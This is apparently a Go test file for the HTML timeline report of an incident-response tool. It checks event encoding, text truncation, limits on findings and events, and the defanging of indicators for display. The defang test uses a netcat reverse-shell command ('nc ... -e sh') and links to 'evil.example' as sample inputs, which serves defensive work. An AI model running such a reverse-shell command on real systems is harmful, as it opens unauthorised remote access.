package report

import (
	"bytes"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/clawbook/openclaw-ir/analyze"
	"github.com/clawbook/openclaw-ir/internal/console"
	"github.com/clawbook/openclaw-ir/internal/severity"
	"golang.org/x/net/html"
	"pgregory.net/rapid"
)

// decoded is the timeline's data as a page's script reads it.
type decoded struct {
	Columns  map[string][]int64
	Findings map[string][]int
	Texts    []string
	Held     int
	Cut      []int
}

func decodeData(t rapid.TB, s *Story) decoded {
	t.Helper()
	var b bytes.Buffer
	var d decoded
	data := newTimelineData(s)
	groupFindings(s, data)
	if err := data.write(&b); err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(b.Bytes(), &d); err != nil {
		t.Fatal(err)
	}
	return d
}

// TestTimelineDataKeepsEveryEvent reads back what was written.
func TestTimelineDataKeepsEveryEvent(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		n := rapid.IntRange(0, 20).Draw(t, "events")
		s := &Story{Events: make([]analyze.Record, n)}
		for i := range s.Events {
			e := &s.Events[i]
			e.Time = time.UnixMilli(rapid.Int64Range(-1e12, 4e12).Draw(t, "time")).UTC().Format("2006-01-02T15:04:05.000Z")
			e.What, e.ID = rapid.String().Draw(t, "what"), rapid.SampledFrom([]string{"a.1", "a.2", ""}).Draw(t, "id")
			e.Session = rapid.SampledFrom([]string{"a", "ab"}).Draw(t, "session")
			e.Kind, e.Bytes = rapid.SampledFrom(analyze.Kinds).Draw(t, "kind"), rapid.Int64Range(0, 1<<50).Draw(t, "bytes")
		}
		d := decodeData(t, s)
		at := int64(0)
		for i := range s.Events {
			e := &s.Events[i]
			at += d.Columns["time"][i]
			if got := time.UnixMilli(at).UTC().Format("2006-01-02T15:04:05.000Z"); got != e.Time {
				t.Errorf("time %s instead of %s", got, e.Time)
			}
			for name, want := range map[string]string{"what": lines(e.What), "id": e.ID, "session": e.Session, "kind": string(e.Kind)} {
				if got := d.Texts[d.Columns[name][i]]; got != want {
					t.Errorf("%s %q instead of %q", name, got, want)
				}
			}
			if d.Columns["bytes"][i] != e.Bytes {
				t.Errorf("bytes %d instead of %d", d.Columns["bytes"][i], e.Bytes)
			}
		}
		for name, c := range d.Columns {
			if len(c) != n {
				t.Errorf("column %s has %d of %d", name, len(c), n)
			}
		}
	})
}

// TestFindingsMarkTheirEvents finds the one event of several that share an id.
func TestFindingsMarkTheirEvents(t *testing.T) {
	event := func(session string, kind analyze.Kind, at string) analyze.Record {
		return analyze.Record{ID: "80f0b671.4", Session: session, Kind: kind, Time: at}
	}
	s := &Story{Events: []analyze.Record{
		event("80f0b671-a", analyze.KindSession, "1"), event("80f0b671-b", analyze.KindExec, "1"), event("80f0b671-a", analyze.KindExec, "1"), {ID: "x.1"},
	}}
	s.Findings = []analyze.FindingRecord{{Level: severity.High, Event: &s.Events[2], Related: []string{"80f0b671.4", "x.1", "gone.1"}}}
	d := decodeData(t, s)
	if got, want := fmt.Sprint(d.Columns["level"], d.Findings["event"]), "[0 0 4 4] [2 3]"; got != want {
		t.Errorf("levels and events are %s, not %s", got, want)
	}
}

// TestLongTextIsCutAndSaysSo holds the start of a text, and nothing is lost between what is shown and what is unfolded.
func TestLongTextIsCutAndSaysSo(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		s := strings.Repeat(rapid.StringN(1, 40, -1).Draw(t, "text"), rapid.IntRange(1, 500).Draw(t, "times"))
		c := longText(s)
		got, err := console.Unescape(c.Start + c.Rest)
		if want := defang(head(s, heldOfText)); err != nil || got != want {
			t.Errorf("start and rest are %q, not %q: %v", got, want, err)
		}
		if c.Size != len(s) || c.Cut() != (len(s) > heldOfText) {
			t.Errorf("%d bytes are said to be %d, cut: %v", len(s), c.Size, c.Cut())
		}
	})
	s := small()
	s.Findings[0].Excerpt = strings.Repeat("<b>x", 1<<18)
	s.Events[0].What = strings.Repeat("é", 20<<20)
	root, raw := page(t, s)
	if text := pageText(root); !strings.Contains(text, "show all that this page holds: 8.2 kB of 1.0 MB") || !strings.Contains(text, "Cut here: the rest is in the evidence.") {
		t.Error("the page does not say that an excerpt is cut")
	}
	if len(raw) > 1<<20 {
		t.Errorf("the page has %d bytes", len(raw))
	}
	if d := decodeData(t, s); len(d.Cut) != 2 || d.Cut[1] != 40<<20 || len(d.Texts[d.Cut[0]]) > d.Held || d.Held != mostHeld {
		t.Errorf("cut are %v at %d", d.Cut, d.Held)
	}
}

// TestTextsThatGrow bounds the page by what is written, not by what was there: escaping makes some texts six times as long.
func TestTextsThatGrow(t *testing.T) {
	s := small()
	for i := range 400 {
		s.Events = append(s.Events, analyze.Record{What: fmt.Sprint(i, strings.Repeat("\x00", mostHeld))})
	}
	var size counter
	if err := WritePage(&size, s); err != nil || size < heldOfTexts/4 || size > heldOfTexts+1<<20 {
		t.Errorf("the page has %d bytes, %v", size, err)
	}
}

// TestManyFindingsLeaveRoom floods the page with findings of one rule: the one that comes once must be seen, and all be counted.
func TestManyFindingsLeaveRoom(t *testing.T) {
	s := small()
	one := s.Findings[0]
	s.Findings = nil
	for range 50_000 {
		s.Findings = append(s.Findings, one)
	}
	for i := range 2000 {
		s.Findings = append(s.Findings, analyze.FindingRecord{Rule: fmt.Sprint("R-", i%500), Title: "noise", Level: severity.High})
	}
	last := analyze.FindingRecord{Rule: "ONCE", Title: "what matters", Level: severity.High}
	s.Findings = append(s.Findings[:50_000], append([]analyze.FindingRecord{last}, s.Findings[50_000:]...)...)
	root, raw := page(t, s)
	text := pageText(root)
	cards := 0
	for n := range root.Descendants() {
		if n.Type == html.ElementNode && n.Data == "article" {
			cards++
		}
	}
	if cards != maxCards || len(raw) > 8<<20 {
		t.Errorf("%d findings are shown, in %d bytes", cards, len(raw))
	}
	for _, want := range []string{"what matters", "critical 50,000", "high 2,001", "49,980"} {
		if !strings.Contains(text, want) {
			t.Errorf("the page does not say %q", want)
		}
	}
}

// TestTooManyEvents keeps those of findings and what was done before what was only said, and counts the rest.
func TestTooManyEvents(t *testing.T) {
	s := small()
	for i := range maxPageEvents {
		s.Events = append(s.Events, analyze.Record{Kind: analyze.KindLog, ID: fmt.Sprint("l.", i)})
	}
	s.EventsLeftOut = 7
	d := newTimelineData(s)
	if len(d.events) != maxPageEvents || d.events[0].ID != "80f0b671.19" || d.leftOut[analyze.KindMessage]+d.leftOut[analyze.KindLog] != 2 {
		t.Errorf("%d events from %s, left out %v", len(d.events), d.events[0].ID, d.leftOut)
	}
	assets, err := loadPage()
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	if err := assets.pages.ExecuteTemplate(&b, "timeline", newPageView(s, d, assets)); err != nil || !strings.Contains(b.String(), "Events left out in all: 9.") {
		t.Errorf("the page does not say how many events it leaves out: %v", err)
	}
}

// TestDefangKeepsNames leaves what somebody has to type, and breaks what leads somewhere.
func TestDefangKeepsNames(t *testing.T) {
	for text, want := range map[string]string{
		"MEMORY.md": "MEMORY.md", "session.started": "session.started", "http://evil.example/x": "hxxp://evil[.]example/x",
		"nc 198.51.100.7:4444 -e sh": "nc 198.51.100[.]7:4444 -e sh", "a@evil.example": "a[@]evil[.]example", "2026.9.6": "2026.9.6",
	} {
		if got := say(text); got != want {
			t.Errorf("%q is shown as %q, not %q", text, got, want)
		}
	}
	if got := own("bundle.tar.zst.age\u202e"); got != console.Escape("bundle.tar.zst.age\u202e") {
		t.Errorf("a name is shown as %q", got)
	}
}

// manyEvents is a story of n events, drawn from a few kinds of work.
func manyEvents(n int) *Story {
	s := small()
	at := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
	deeds := []string{
		"git status --short && git diff --stat", "cat /home/claw/notes/week.md", "curl -s https://api.example.test/v1/items?page=",
		"<p>Der Bäcker sagt: 75 % &amp; mehr</p>",
	}
	asker := analyze.Asker{Kind: "channel", Channel: "telegram", Sender: "555000111", Owner: analyze.OwnerYes}
	source := "/home/claw/.openclaw/agents/main/agent/openclaw-agent.sqlite"
	kinds := []analyze.Kind{analyze.KindExec, analyze.KindRead, analyze.KindFetch, analyze.KindResult}
	for i := range n {
		s.Events = append(s.Events, analyze.Record{
			Time: at.Add(time.Duration(i) * 20 * time.Second).Format("2006-01-02T15:04:05.000Z"), Kind: kinds[i%4], ID: fmt.Sprintf("9c2e11d0.%d", i), Agent: "main",
			Session: fmt.Sprintf("9c2e11d0-%d", i/500), SessionKey: "agent:main:telegram:direct:555000111", Asker: asker,
			Tool: "exec", CallID: fmt.Sprintf("call_%d", i), Parent: fmt.Sprintf("p%08x", i), What: fmt.Sprint(deeds[i%4], i),
			Cwd: "/home/claw/.openclaw/workspace", Source: source, Form: "sqlite", Line: int64(i),
			Result: analyze.Result{Status: analyze.StatusOK, Millis: int64(i % 900), Size: int64(i % 5000), Recorded: true},
		})
	}
	return s
}

// BenchmarkPage writes the page of a case with 100,000 events.
func BenchmarkPage(b *testing.B) {
	s := manyEvents(100_000)
	var size counter
	b.ReportAllocs()
	for b.Loop() {
		size = 0
		if err := WritePage(&size, s); err != nil {
			b.Fatal(err)
		}
	}
	b.SetBytes(int64(size))
	b.ReportMetric(float64(size)/1e6, "MB")
}

// A counter counts what is written to it.
type counter int64

func (c *counter) Write(p []byte) (int, error) {
	*c += counter(len(p))
	return len(p), nil
}
